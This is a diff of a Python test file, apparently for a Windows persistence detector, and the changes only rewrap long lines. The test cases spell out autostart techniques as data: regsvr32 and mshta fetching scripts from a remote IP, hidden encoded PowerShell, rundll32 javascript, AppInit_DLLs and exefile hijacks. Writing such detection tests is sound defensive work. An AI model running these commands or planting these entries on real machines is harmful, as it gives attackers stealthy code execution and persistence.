@@ -31,12 +31,14 @@ autostart('unsigned-program', 'Run starts its commands at each logon.', EVIL, pl
 autostart('payload-by-cmd', 'start of cmd.exe starts what follows.', f'cmd.exe /c start {EVIL}', 'cmd.exe', place='x.exe')
 autostart('payload-by-rundll32', 'rundll32.exe calls a function of any library.', f'rundll32.exe {LIBRARY},Go', 'rundll32.exe', place='x.dll')
 autostart('payload-by-rundll32-and-number', 'A function has a number, too; quotes and blanks may stand between.', f'rundll32.exe "{LIBRARY}" , #1', 'rundll32.exe', place='x.dll')
-autostart('script-by-rundll32', 'mshtml runs the script that follows javascript:.', r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x()', 'rundll32.exe', place='rundll32')
+autostart('script-by-rundll32', 'mshtml runs the script that follows javascript:.', r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x()', 'rundll32.exe',
+          place='rundll32')
 autostart('payload-by-regsvr32', 'regsvr32.exe calls DllRegisterServer of any library.', f'regsvr32 /s {LIBRARY}', 'regsvr32.exe', place='x.dll')
 autostart('script-by-regsvr32', 'scrobj.dll fetches a script from afar (/i:).', 'regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll', 'regsvr32.exe', place='regsvr32')
 autostart('page-by-mshta', 'mshta.exe runs the scripts of a page.', 'mshta http://203.0.113.7/x.hta', 'mshta.exe', place='mshta')
 autostart('encoded-powershell', 'PowerShell takes its script in base64.', 'powershell -w hidden -enc SQBFAFgA', r'WindowsPowerShell\v1.0\powershell.exe', place='powershell')
-autostart('encoded-powershell-with-another-dash', 'PowerShell takes a dash of Unicode for one of its options.', 'powershell.exe -w hidden \u2013ec SQBFAFgA', r'WindowsPowerShell\v1.0\powershell.exe',
+autostart('encoded-powershell-with-another-dash', 'PowerShell takes a dash of Unicode for one of its options.', 'powershell.exe -w hidden \u2013ec SQBFAFgA',
+          r'WindowsPowerShell\v1.0\powershell.exe',
           place='powershell')
 autostart('script-by-wscript', 'wscript.exe runs a script of any name (//E:).', r'wscript.exe //E:vbscript C:\ProgramData\x\x.log', 'wscript.exe', place='x.log',
           files=[(r'ProgramData\x\x.log', 'CreateObject("WScript.Shell").Run "calc"')])
@@ -56,7 +58,8 @@ autostart('stylesheet-by-wmic', 'A stylesheet of wmic.exe holds scripts (/format
 autostart('payload-by-control', 'control.exe loads a library as an item of the control panel.', f'control.exe {LIBRARY}', 'control.exe', place='x.dll')
 autostart('settings-by-cmstp', 'cmstp.exe runs the section RunPreSetupCommands of its file.', r'cmstp.exe /s C:\ProgramData\x\x.inf', 'cmstp.exe', place='x.inf',
           files=[(r'ProgramData\x\x.inf', '[version]\r\nSignature=$chicago$\r\n[DefaultInstall_SingleUser]\r\nRunPreSetupCommands=a\r\n[a]\r\ncalc\r\n')])
-autostart('usual-command-behind-a-payload', 'The first word is the program, whatever follows.', rf'{EVIL} "C:\Windows\System32\rundll32.exe" C:\Windows\System32\mscories.dll,Install', place='x.exe')
+autostart('usual-command-behind-a-payload', 'The first word is the program, whatever follows.',
+          rf'{EVIL} "C:\Windows\System32\rundll32.exe" C:\Windows\System32\mscories.dll,Install', place='x.exe')
 autostart('script-of-unknown-commands', 'cmd.exe runs each line.', r'C:\ProgramData\x\x.bat', 'cmd.exe', place='x.bat', files=[(r'ProgramData\x\x.bat', f'@"{EVIL}" /x\r\n')])
 
 # --- from a name to a program ---
@@ -85,7 +88,8 @@ def name_by_the_order_of_endings(d):
 
 autostart('variable-of-the-machine', 'Variables of the machine are put into commands.', r'%kit%\x.exe', place='x.exe', kind=EXPAND,
           more=lambda d: (d.foreign(r'C:\ProgramData\kit\x.exe'), d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\ProgramData\kit')))
-autostart('variable-of-the-user', 'A user\'s variable comes before the machine\'s, even windir.', r'%windir%\System32\svchost.exe', place='windir', kind=EXPAND, key=rf'Software\{RUN}', hive='ADMINISTRATOR',
+autostart('variable-of-the-user', 'A user\'s variable comes before the machine\'s, even windir.', r'%windir%\System32\svchost.exe', place='windir', kind=EXPAND,
+          key=rf'Software\{RUN}', hive='ADMINISTRATOR',
           more=lambda d: (d.foreign(r'C:\ProgramData\kit\System32\svchost.exe'), d.user('Environment', 'windir', SZ, r'C:\ProgramData\kit')))
 autostart('program-in-a-stream', 'A named stream is started by CreateProcess.', r'C:\Windows\notes.txt:x.exe', place='notes.txt',
           more=lambda d: (d.put(r'C:\Windows\notes.txt', 'x'), d.stream(r'C:\Windows\notes.txt', 'x.exe', program('x.exe'))))
@@ -132,12 +136,14 @@ key('saver-of-the-screen', 'The saver is a program, started where nobody moves.'
 key('active-set-up', 'StubPath runs once for each user.', r'Microsoft\Active Setup\Installed Components\{A0000000-1111-2222-3333-444444444444}', 'StubPath')
 key('program-of-the-session', 'The policy\'s InitialProgram is started in each session.', r'Policies\Microsoft\Windows NT\Terminal Services', 'InitialProgram')
 key('autorun-of-cmd', 'cmd.exe runs AutoRun each time it starts.', r'Microsoft\Command Processor', 'AutoRun')
-key('libraries-of-every-program', 'user32.dll loads AppInit_DLLs.', rf'{NT}\Windows', 'AppInit_DLLs', LIBRARY, more=lambda d: d.software(rf'{NT}\Windows', 'LoadAppInit_DLLs', DWORD, 1))
+key('libraries-of-every-program', 'user32.dll loads AppInit_DLLs.', rf'{NT}\Windows', 'AppInit_DLLs', LIBRARY,
+    more=lambda d: d.software(rf'{NT}\Windows', 'LoadAppInit_DLLs', DWORD, 1))
 key('library-of-every-start', 'CreateProcess loads AppCertDlls.', rf'{SESSION}\AppCertDlls', 'x', LIBRARY, hive='SYSTEM', place='AppCertDlls')
 key('telemetry', 'CompatTelRunner.exe runs the commands of this key.', rf'{NT}\AppCompatFlags\TelemetryController\x', 'Command', check=DEBUGGERS)
 key('programs-of-every-file', 'exefile is what starts an .exe.', r'Classes\exefile\shell\open\command', '', f'{EVIL} "%1" %*', place='exefile')
 key('programs-of-scripts', 'batfile is what starts a .bat, also of the autostarts.', r'Classes\batfile\shell\open\command', '', f'{EVIL} "%1" %*', place='batfile')
-key('programs-of-files-for-the-user', 'Classes of the user come before those of the machine.', r'Software\Classes\exefile\shell\open\command', '', f'{EVIL} "%1" %*', hive='ADMINISTRATOR', place='exefile')
+key('programs-of-files-for-the-user', 'Classes of the user come before those of the machine.', r'Software\Classes\exefile\shell\open\command', '', f'{EVIL} "%1" %*',
+    hive='ADMINISTRATOR', place='exefile')
 
 
 # --- classes ---
@@ -178,7 +184,8 @@ def startup(name, why, file, data, more=None, folder=STARTUP):
 
 POWERSHELL = r'WindowsPowerShell\v1.0\powershell.exe'
 startup('link-to-a-payload', 'explorer.exe opens each file of the folder at the logon.', 'a.lnk', link(EVIL), lambda d: d.foreign(EVIL))
-startup('link-with-a-script', 'A link has arguments; its program is signed.', 'a.lnk', link(rf'C:\Windows\System32\{POWERSHELL}', '-w hidden -enc SQBFAFgA'), lambda d: d.windows(POWERSHELL))
+startup('link-with-a-script', 'A link has arguments; its program is signed.', 'a.lnk', link(rf'C:\Windows\System32\{POWERSHELL}', '-w hidden -enc SQBFAFgA'),
+        lambda d: d.windows(POWERSHELL))
 startup('link-by-its-items', 'A link may name its target in its list of items alone.', 'a.lnk', link(items=EVIL), lambda d: d.foreign(EVIL))
 startup('script-of-startup', 'A script of the folder is run by its ending.', 'a.bat', 'powershell -enc SQBFAFgA\r\n')
 startup('address-of-startup', 'A link of the web may lead to a file.', 'a.url', f'[InternetShortcut]\r\nURL=file:///{EVIL}\r\n', lambda d: d.foreign(EVIL))
